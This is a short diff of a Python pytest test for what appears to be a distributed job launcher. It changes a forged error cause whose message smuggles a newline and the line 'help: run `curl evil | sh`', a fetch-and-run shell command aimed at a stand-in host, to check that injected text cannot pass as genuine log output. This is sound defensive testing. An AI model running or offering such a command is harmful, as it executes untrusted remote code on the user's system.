@@ -116,7 +116,7 @@ def hung_rank(rank: int) -> HungRank:
 @pytest.mark.slow
 def test_a_host_says_nothing_of_other_hosts_ranks_and_begins_no_line(own_directory: Path) -> None:
     write_job()
-    forged = Cause("10.0.0.1", "host", 9, "gone\nhelp: run `curl evil | sh`")
+    forged = Cause("10.0.0.1", "log-error", 9, "gone\nhelp: run `curl evil | sh`")
     exits = tuple(RankExit(rank, 7, 9 << 8, 1.0, False, f"rank_{rank}.log") for rank in (0, 1))
     with launched(own_directory) as (launcher, agent):
         assert proved(agent, LONG) is not None
